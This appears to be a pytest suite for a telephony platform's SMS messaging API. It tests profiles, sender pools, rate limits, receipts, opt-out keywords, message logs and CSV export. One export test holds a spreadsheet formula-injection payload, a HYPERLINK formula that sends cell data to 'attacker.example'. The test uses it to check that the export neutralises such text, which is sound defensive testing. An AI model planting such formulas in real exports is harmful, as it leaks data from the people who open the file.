"""Messaging through the API: profiles, SMS on numbers, sending (number, pool), limits, opt-out, records.

The send step and receipts run in-process here (the service a worker calls); test_messaging_worker.py runs
them on a real Celery worker with real callback receivers.
"""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone

from telephony.models import Campaign, Event, Message, MessagingNumber, OptOut, SimulatedCarrierRule
from telephony.services import messaging as services
from telephony.tests.isolation_messaging import (
    make_campaign,
    make_profile,
    make_sender,
    make_sms_number,
)

pytestmark = pytest.mark.django_db

OFF_NET = "+12125550100"


def _send(client, **body):
    return client.post("/api/v1/messages", body, format="json")


def _error(response):
    return response.json()["error"]


def _step_all(account):
    """Run the send step for every queued message of the account, as if each slot had come."""
    later = timezone.now() + timedelta(hours=2)
    for pk in Message.objects.filter(account=account, status="queued").values_list("pk", flat=True):
        services.message_send_step(message_pk=pk, now=later)


# --- Profiles and enablement -------------------------------------------------------------------------


def test_it_creates_lists_changes_and_deletes_a_messaging_profile(alice_api):
    created = alice_api.post(
        "/api/v1/messaging-profiles",
        {"name": "Alerts", "callback_url": "http://127.0.0.1:9/hook", "sticky_sender": False},
        format="json",
    )
    assert created.status_code == 201, created.content
    profile_id = created.json()["id"]
    assert created.json()["sticky_sender"] is False and created.json()["numbers"] == []

    changed = alice_api.patch(f"/api/v1/messaging-profiles/{profile_id}", {"toll_free_weight": 5}, format="json")
    assert changed.json()["toll_free_weight"] == 5
    assert [p["id"] for p in alice_api.get("/api/v1/messaging-profiles").json()["results"]] == [profile_id]
    assert alice_api.delete(f"/api/v1/messaging-profiles/{profile_id}").status_code == 204


def test_it_refuses_a_callback_url_that_is_not_http(alice_api):
    response = alice_api.post(
        "/api/v1/messaging-profiles", {"name": "Bad", "callback_url": "ftp://example.com/x"}, format="json"
    )
    assert response.status_code == 400
    assert "callback_url" in _error(response)["fields"]


def test_it_refuses_to_delete_a_profile_numbers_send_with(alice, alice_api):
    sender = make_sender(alice.account)
    response = alice_api.delete(f"/api/v1/messaging-profiles/{sender.profile.public_id}")
    assert response.status_code == 409
    assert _error(response)["code"] == "profile_in_use"


def test_a_profile_whose_only_number_was_released_can_be_deleted(alice, alice_api):
    from telephony.services.numbers import number_release

    sender = make_sender(alice.account)
    number_release(account=alice.account, actor=None, number=sender.phone_number)
    profile_id = sender.profile.public_id
    assert alice_api.get(f"/api/v1/messaging-profiles/{profile_id}").json()["numbers"] == []
    # The released number can no longer be taken out of the profile (it is not the account's): it must not block.
    assert alice_api.delete(f"/api/v1/messaging-profiles/{profile_id}").status_code == 204


def test_it_enables_and_disables_sms_on_a_number(alice, alice_api):
    profile = make_profile(alice.account)
    campaign = make_campaign(alice.account)
    number = make_sms_number(alice.account)

    enabled = alice_api.post(
        f"/api/v1/numbers/{number.public_id}/sms",
        {"messaging_profile": str(profile.public_id), "campaign": str(campaign.public_id)},
        format="json",
    )
    assert enabled.status_code == 200, enabled.content
    assert enabled.json()["sms_enabled"] is True and enabled.json()["campaign"] == str(campaign.public_id)
    number.refresh_from_db()
    assert number.sms_enabled

    disabled = alice_api.delete(f"/api/v1/numbers/{number.public_id}/sms")
    assert disabled.json()["sms_enabled"] is False
    assert not MessagingNumber.objects.filter(phone_number=number).exists()


def test_it_refuses_sms_on_a_voice_only_number(alice, alice_api):
    profile = make_profile(alice.account)
    number = make_sms_number(alice.account, sms=False)
    response = alice_api.post(
        f"/api/v1/numbers/{number.public_id}/sms", {"messaging_profile": str(profile.public_id)}, format="json"
    )
    assert response.status_code == 400
    assert _error(response)["code"] == "no_sms"


def test_it_does_not_enable_sms_with_another_accounts_profile(alice, charlie, alice_api):
    theirs = make_profile(charlie.account)
    number = make_sms_number(alice.account)
    response = alice_api.post(
        f"/api/v1/numbers/{number.public_id}/sms", {"messaging_profile": str(theirs.public_id)}, format="json"
    )
    assert response.status_code == 400
    assert "messaging_profile" in _error(response)["fields"]


# --- Sending: errors ---------------------------------------------------------------------------------


def test_it_refuses_to_send_from_a_number_without_sms(alice, alice_api):
    number = make_sms_number(alice.account)
    response = _send(alice_api, **{"from": number.number, "to": OFF_NET, "text": "hi"})
    assert response.status_code == 400
    error = _error(response)
    assert error["code"] == "sms_not_enabled" and "messaging profile" in error["fields"]["from"][0]


def test_it_refuses_a_us_long_code_without_an_approved_campaign(alice, alice_api):
    profile = make_profile(alice.account)
    without = services.number_sms_enable(
        account=alice.account, actor=None, number=make_sms_number(alice.account), profile=profile
    )
    pending = make_sender(alice.account, profile, campaign=make_campaign(alice.account, approved=False))

    response = _send(alice_api, **{"from": without.number, "to": OFF_NET, "text": "hi"})
    assert response.status_code == 400
    assert _error(response)["code"] == "campaign_required"
    assert "10DLC campaign" in _error(response)["message"]
    response = _send(alice_api, **{"from": pending.number, "to": OFF_NET, "text": "hi"})
    assert _error(response)["code"] == "campaign_required" and "pending" in _error(response)["message"]


def test_a_toll_free_number_sends_without_a_campaign(alice, alice_api):
    sender = make_sender(alice.account, toll_free=True)
    response = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "hi"})
    assert response.status_code == 201, response.content


def test_it_refuses_a_text_over_the_maximum_length(alice, alice_api, settings):
    settings.MESSAGING_MAX_LENGTH = 20
    sender = make_sender(alice.account)
    response = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "x" * 21})
    assert response.status_code == 400
    assert _error(response)["code"] == "too_long" and "20" in _error(response)["message"]


def test_it_refuses_an_invalid_destination(alice, alice_api):
    sender = make_sender(alice.account)
    response = _send(alice_api, **{"from": sender.number, "to": "12", "text": "hi"})
    assert _error(response)["code"] == "invalid_number"


def test_it_refuses_a_destination_that_opted_out(alice, alice_api):
    sender = make_sender(alice.account)
    OptOut.objects.create(account=alice.account, number=OFF_NET, keyword="STOP")
    response = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "hi"})
    assert response.status_code == 400
    assert _error(response)["code"] == "opted_out" and "START" in _error(response)["message"]


# --- Sending: number and pool ------------------------------------------------------------------------


def test_it_queues_a_message_with_its_encoding_segments_and_event(alice, alice_api):
    sender = make_sender(alice.account)
    response = _send(alice_api, **{"from": sender.number, "to": "+1 (212) 555-0100", "text": "Hello 😀"})
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["status"] == "queued" and body["to"] == OFF_NET and body["from"] == sender.number
    assert (body["encoding"], body["segments"]) == ("UCS-2", 1)
    event = Event.objects.get(object_type="message", object_id=body["id"])
    assert event.type == "message.queued" and event.payload["segments"] == 1


def test_the_same_idempotency_key_sends_once(alice, alice_api):
    sender = make_sender(alice.account)
    body = {"from": sender.number, "to": OFF_NET, "text": "once"}
    first = alice_api.post("/api/v1/messages", body, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    second = alice_api.post("/api/v1/messages", body, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert first.json()["id"] == second.json()["id"]
    assert Message.objects.filter(account=alice.account).count() == 1


def test_a_pool_keeps_the_same_sender_for_a_destination(alice, alice_api):
    profile = make_profile(alice.account, sticky_sender=True)
    senders = {make_sender(alice.account, profile, toll_free=True).number for _ in range(4)}
    used = {
        _send(alice_api, messaging_profile=str(profile.public_id), to=OFF_NET, text=f"n{i}").json()["from"]
        for i in range(6)
    }
    assert len(used) == 1 and used <= senders
    # Another destination may get another sender; the first keeps its own.
    _send(alice_api, messaging_profile=str(profile.public_id), to="+12125550199", text="x")
    again = _send(alice_api, messaging_profile=str(profile.public_id), to=OFF_NET, text="again").json()["from"]
    assert {again} == used


def test_a_pool_without_sticky_sender_spreads_messages_and_follows_the_weights(alice, alice_api):
    profile = make_profile(alice.account, sticky_sender=False, long_code_weight=0, toll_free_weight=1)
    long_code = make_sender(alice.account, profile)
    toll_free = {make_sender(alice.account, profile, toll_free=True).number for _ in range(3)}
    used = [
        _send(alice_api, messaging_profile=str(profile.public_id), to=OFF_NET, text=f"n{i}").json()["from"]
        for i in range(6)
    ]
    assert long_code.number not in used
    assert set(used) == toll_free  # the least busy sender first: all three share the load


def test_a_pool_skips_a_sender_whose_messages_recently_failed(alice, alice_api, settings):
    settings.MESSAGING_UNHEALTHY_FAILURES = 2
    profile = make_profile(alice.account, sticky_sender=False)
    bad = make_sender(alice.account, profile, toll_free=True)
    good = make_sender(alice.account, profile, toll_free=True)
    MessagingNumber.objects.filter(pk=bad.pk).update(consecutive_failures=2, last_failure_at=timezone.now())
    used = {
        _send(alice_api, messaging_profile=str(profile.public_id), to=OFF_NET, text=f"n{i}").json()["from"]
        for i in range(4)
    }
    assert used == {good.number}


@pytest.mark.postgres
def test_a_pool_send_does_not_hold_the_senders_a_concurrent_send_could_use(alice, transactional_db):
    import threading

    from django.db import connection, transaction

    profile = make_profile(alice.account, sticky_sender=False)
    first = make_sender(alice.account, profile, toll_free=True)
    second = make_sender(alice.account, profile, toll_free=True)
    # The second is a little busier, so both sends rank the first ahead of it.
    MessagingNumber.objects.filter(pk=second.pk).update(next_slot_at=timezone.now() + timedelta(seconds=30))
    holding, done = threading.Event(), threading.Event()
    held = {}

    def send_and_hold():
        try:
            with transaction.atomic():
                held["from"] = services.message_send(
                    account=alice.account, actor=None, profile=profile, to=OFF_NET, text="a"
                ).from_number
                holding.set()
                done.wait(10)
        finally:
            holding.set()
            connection.close()

    thread = threading.Thread(target=send_and_hold)
    thread.start()
    try:
        assert holding.wait(10)
        with transaction.atomic():
            with connection.cursor() as cursor:
                cursor.execute("SET LOCAL lock_timeout = '3s'")  # waiting for the held sender fails, not hangs
            message = services.message_send(account=alice.account, actor=None, profile=profile, to=OFF_NET, text="b")
    finally:
        done.set()
        thread.join(10)
    assert held["from"] == first.number
    assert message.from_number == second.number


def test_a_pool_that_is_off_refuses_profile_sends(alice, alice_api):
    profile = make_profile(alice.account, number_pool_enabled=False)
    make_sender(alice.account, profile)
    response = _send(alice_api, messaging_profile=str(profile.public_id), to=OFF_NET, text="x")
    assert _error(response)["code"] == "pool_disabled"


# --- Limits ------------------------------------------------------------------------------------------


def test_a_long_code_sends_one_segment_per_second_and_queues_the_rest(alice, alice_api, settings):
    settings.MESSAGING_RATE_LONG_CODE = 1.0
    sender = make_sender(alice.account)
    ids = [_send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": f"m{i}"}).json()["id"] for i in range(3)]
    two_segments = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "y" * 200}).json()["id"]
    after = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "last"}).json()["id"]
    slots = {m.public_id.hex: m.send_after for m in Message.objects.filter(account=alice.account)}
    first = slots[ids[0].replace("-", "")]
    gaps = [(slots[i.replace("-", "")] - first).total_seconds() for i in [*ids, two_segments, after]]
    assert [round(gap, 3) for gap in gaps] == [0, 1, 2, 3, 5]

    # The send step leaves a message whose slot has not come.
    queued_third = Message.objects.get(public_id=ids[2])
    outcome = services.message_send_step(message_pk=queued_third.pk, now=first + timedelta(seconds=1))
    assert outcome.status == "not_due"
    assert Message.objects.get(pk=queued_third.pk).status == "queued"
    assert services.message_send_step(message_pk=queued_third.pk, now=first + timedelta(seconds=2)).status == "sent"


def test_a_full_sender_queue_answers_429(alice, alice_api, settings):
    settings.MESSAGING_RATE_LONG_CODE = 1.0
    settings.MESSAGING_SENDER_MAX_QUEUE_SECONDS = 2
    sender = make_sender(alice.account)
    codes = [_send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "x"}).status_code for _ in range(4)]
    assert codes == [201, 201, 201, 429]
    response = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "x"})
    assert _error(response)["code"] == "sender_queue_full"


def test_the_account_daily_limit_answers_429(alice, alice_api, settings):
    settings.MESSAGING_ACCOUNT_DAILY_LIMIT = 2
    sender = make_sender(alice.account, toll_free=True)
    codes = [_send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "x"}).status_code for _ in range(3)]
    assert codes == [201, 201, 429]
    assert _error(_send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "x"}))["code"] == (
        "daily_limit_reached"
    )


# --- Lifecycle ---------------------------------------------------------------------------------------


def _types(message_id: str) -> list[str]:
    return list(
        Event.objects.filter(object_type="message", object_id=message_id)
        .order_by("sequence")
        .values_list("type", flat=True)
    )


def test_a_message_goes_queued_sending_sent_delivered_with_a_receipt(alice, alice_api):
    sender = make_sender(alice.account)
    message_id = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "hi"}).json()["id"]
    _step_all(alice.account)
    message = Message.objects.get(public_id=message_id)
    assert message.status == "sent" and message.carrier == "simulated" and message.carrier_message_id

    services.message_receipt(carrier="simulated", carrier_message_id=message.carrier_message_id, status="delivered")
    detail = alice_api.get(f"/api/v1/messages/{message_id}").json()
    assert detail["status"] == "delivered"
    assert [entry["status"] for entry in detail["history"]] == ["queued", "sending", "sent", "delivered"]
    assert _types(message_id) == ["message.queued", "message.sending", "message.sent", "message.delivered"]
    # A late duplicate receipt changes nothing.
    assert (
        services.message_receipt(carrier="simulated", carrier_message_id=message.carrier_message_id, status="failed")
        is None
    )


def test_a_message_the_carrier_refuses_fails_with_its_code(alice, alice_api):
    SimulatedCarrierRule.objects.create(match="+1212555*", action="fail", error_code="30006", error_text="Landline")
    sender = make_sender(alice.account)
    message_id = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "hi"}).json()["id"]
    _step_all(alice.account)
    detail = alice_api.get(f"/api/v1/messages/{message_id}").json()
    assert (detail["status"], detail["error_code"], detail["error_text"]) == ("failed", "30006", "Landline")
    assert _types(message_id)[-1] == "message.failed"
    assert MessagingNumber.objects.get(pk=sender.pk).consecutive_failures == 1


def test_an_undelivered_receipt_records_its_error(alice, alice_api):
    sender = make_sender(alice.account)
    message_id = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "hi"}).json()["id"]
    _step_all(alice.account)
    message = Message.objects.get(public_id=message_id)
    services.message_receipt(
        carrier="simulated", carrier_message_id=message.carrier_message_id, status="undelivered", error_code="30003"
    )
    message.refresh_from_db()
    assert (message.status, message.error_code) == ("undelivered", "30003")
    assert _types(message_id)[-1] == "message.undelivered"


def test_a_message_to_one_of_the_platforms_numbers_arrives_as_inbound(alice, charlie, alice_api):
    sender = make_sender(alice.account)
    theirs = make_sender(charlie.account)
    message_id = _send(alice_api, **{"from": sender.number, "to": theirs.number, "text": "on-net"}).json()["id"]
    _step_all(alice.account)
    received = Message.objects.get(account=charlie.account, direction="inbound")
    assert (received.from_number, received.to_number, received.text, received.status) == (
        sender.number, theirs.number, "on-net", "received",
    )  # fmt: skip
    assert Event.objects.filter(account=charlie.account, type="message.received").exists()
    assert Message.objects.get(public_id=message_id).thread == received.thread


# --- Inbound and keywords ----------------------------------------------------------------------------


def _inbound(client, to, text, from_=OFF_NET):
    return client.post("/api/v1/simulator/inbound-messages", {"from": from_, "to": to, "text": text}, format="json")


def test_an_inbound_message_is_stored_and_raises_message_received(alice, alice_api):
    sender = make_sender(alice.account)
    response = _inbound(alice_api, sender.number, "Hello there")
    assert response.status_code == 201, response.content
    assert response.json()["status"] == "received" and response.json()["direction"] == "inbound"
    assert _types(response.json()["id"]) == ["message.received"]


def test_the_simulator_refuses_a_number_without_sms(alice, charlie, alice_api):
    response = _inbound(alice_api, make_sms_number(alice.account).number, "x")
    assert response.status_code == 400 and "to" in _error(response)["fields"]
    response = _inbound(alice_api, make_sender(charlie.account).number, "x")
    assert response.status_code == 400


def test_stop_blocks_sends_start_lifts_it_and_help_replies_with_the_campaigns_text(alice, alice_api):
    campaign = make_campaign(alice.account, help_message="Acme alerts. Reply STOP to end.", opt_out_message="Bye!")
    sender = make_sender(alice.account, campaign=campaign)

    _inbound(alice_api, sender.number, " stop ")
    assert OptOut.objects.filter(account=alice.account, number=OFF_NET).exists()
    reply = Message.objects.get(account=alice.account, direction="outbound", auto_reply="stop")
    assert (reply.to_number, reply.text) == (OFF_NET, "Bye!")
    refused = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "promo"})
    assert _error(refused)["code"] == "opted_out"

    _inbound(alice_api, sender.number, "START")
    assert not OptOut.objects.filter(account=alice.account, number=OFF_NET).exists()
    assert _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "welcome back"}).status_code == 201

    _inbound(alice_api, sender.number, "Help")
    help_reply = Message.objects.get(account=alice.account, auto_reply="help")
    assert help_reply.text == "Acme alerts. Reply STOP to end."


# --- Records -----------------------------------------------------------------------------------------


def test_the_log_filters_by_direction_text_thread_and_number(alice, alice_api):
    sender = make_sender(alice.account, toll_free=True)
    _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "Your code is 1234"})
    _send(alice_api, **{"from": sender.number, "to": "+12125550199", "text": "Other person"})
    inbound = _inbound(alice_api, sender.number, "thanks").json()

    def ids(query):
        return [m["text"] for m in alice_api.get(f"/api/v1/messages?{query}").json()["results"]]

    assert ids("direction=inbound") == ["thanks"]
    assert ids("text=CODE") == ["Your code is 1234"]
    assert ids(f"thread={inbound['thread_id']}") == ["thanks", "Your code is 1234"]
    assert ids("to=%2B12125550199") == ["Other person"]
    assert ids("number=%2B12125550199") == ["Other person"]
    assert ids("status=received,failed") == ["thanks"]


def test_the_log_pages_with_cursors(alice, alice_api):
    sender = make_sender(alice.account, toll_free=True)
    for i in range(5):
        _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": f"m{i}"})
    first = alice_api.get("/api/v1/messages?limit=3").json()
    second = alice_api.get(first["next"]).json()
    assert [m["text"] for m in first["results"] + second["results"]] == ["m4", "m3", "m2", "m1", "m0"]


def test_the_csv_export_streams_every_matching_message(alice, alice_api):
    sender = make_sender(alice.account, toll_free=True)
    _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": 'with "quotes", and comma'})
    _inbound(alice_api, sender.number, "in")
    response = alice_api.get("/api/v1/messages/export?direction=outbound")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines[0].startswith("id,created_at,direction")
    assert len(lines) == 2 and '"with ""quotes"", and comma"' in lines[1]


def test_the_csv_export_defuses_a_texted_spreadsheet_formula(alice, alice_api):
    import csv
    import io

    sender = make_sender(alice.account, toll_free=True)
    # Anyone can text the account's numbers: a text read as a formula by the spreadsheet that opens the export
    # could fetch URLs or run commands there.
    _inbound(alice_api, sender.number, '=HYPERLINK("http://attacker.example/?d="&A1,"Click")')
    response = alice_api.get("/api/v1/messages/export")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["text"] for row in rows] == ['\'=HYPERLINK("http://attacker.example/?d="&A1,"Click")']
    assert rows[0]["from"] == OFF_NET  # numbers are left as they are


def test_another_accounts_message_is_not_found(alice, charlie_api):
    message = services.message_receive(from_=OFF_NET, to=make_sender(alice.account).number, text="private")
    assert charlie_api.get(f"/api/v1/messages/{message.public_id}").status_code == 404
    assert charlie_api.get("/api/v1/messages").json()["results"] == []
    assert b"private" not in b"".join(charlie_api.get("/api/v1/messages/export").streaming_content)


def test_message_events_reach_the_accounts_webhook_endpoints_and_show_in_the_detail(alice, alice_api):
    from telephony.services.webhooks import webhook_endpoint_create

    webhook_endpoint_create(
        account=alice.account, actor=None, url="http://127.0.0.1:9/hooks", event_types=["message.*"]
    )
    sender = make_sender(alice.account)
    message = services.message_receive(from_=OFF_NET, to=sender.number, text="hi")
    deliveries = alice_api.get(f"/api/v1/messages/{message.public_id}").json()["deliveries"]
    assert [(d["kind"], d["event_type"], d["url"]) for d in deliveries] == [
        ("event", "message.received", "http://127.0.0.1:9/hooks")
    ]


def test_brands_and_campaigns_are_submitted_pending_and_a_changed_campaign_is_reviewed_again(alice, alice_api):
    brand = alice_api.post(
        "/api/v1/brands", {"display_name": "Acme", "company_name": "Acme Inc.", "ein": "12-3456789"}, format="json"
    )
    assert brand.status_code == 201 and brand.json()["status"] == "pending"
    created = alice_api.post(
        "/api/v1/campaigns",
        {
            "brand": brand.json()["id"], "name": "Shipping", "use_case": "delivery_notification",
            "description": "Parcel updates.", "sample_messages": ["Your parcel left."], "message_flow": "Checkout.",
        },
        format="json",
    )  # fmt: skip
    assert created.status_code == 201 and created.json()["status"] == "pending"
    campaign_id = created.json()["id"]
    services.tendlc_review(staff=None, obj=Campaign.objects.get(public_id=campaign_id), approve=True)

    reply_only = alice_api.patch(f"/api/v1/campaigns/{campaign_id}", {"help_message": "Acme help"}, format="json")
    assert reply_only.json()["status"] == "approved"
    reworded = alice_api.patch(f"/api/v1/campaigns/{campaign_id}", {"description": "Parcels."}, format="json")
    assert reworded.json()["status"] == "pending"


def test_a_campaign_needs_sample_messages_and_a_brand_of_the_account(alice, charlie, alice_api):
    theirs = make_campaign(charlie.account).brand
    response = alice_api.post(
        "/api/v1/campaigns",
        {"brand": str(theirs.public_id), "name": "X", "use_case": "marketing", "description": "d",
         "sample_messages": [], "message_flow": "f"},
        format="json",
    )  # fmt: skip
    assert response.status_code == 400
    assert {"brand", "sample_messages"} <= set(_error(response)["fields"])


def test_another_accounts_number_cannot_be_enabled_or_read(alice, charlie_api):
    number = make_sms_number(alice.account)
    theirs = make_profile(alice.account)
    url = f"/api/v1/numbers/{number.public_id}/sms"
    assert charlie_api.get(url).status_code == 404
    assert charlie_api.post(url, {"messaging_profile": str(theirs.public_id)}, format="json").status_code == 404
    assert charlie_api.delete(url).status_code == 404
    assert not MessagingNumber.objects.filter(phone_number=number).exists()


def test_a_receipt_that_outruns_the_submit_counts_the_message_sent_first(alice, alice_api):
    sender = make_sender(alice.account, toll_free=True)
    message_id = _send(alice_api, **{"from": sender.number, "to": OFF_NET, "text": "hi"}).json()["id"]
    message = Message.objects.get(public_id=message_id)
    Message.objects.filter(pk=message.pk).update(status="sending")
    services.message_attach_carrier_id(message=message, carrier="simulated", carrier_message_id="sim-early")
    services.message_receipt(carrier="simulated", carrier_message_id="sim-early", status="delivered")
    events = Event.objects.filter(object_type="message", object_id=message_id).order_by("sequence")
    assert [(e.type, e.payload["state"]) for e in events][-2:] == [
        ("message.sent", "sent"),
        ("message.delivered", "delivered"),
    ]
    with pytest.raises(services.ReceiptTooEarly):
        services.message_receipt(carrier="simulated", carrier_message_id="sim-unknown", status="delivered")
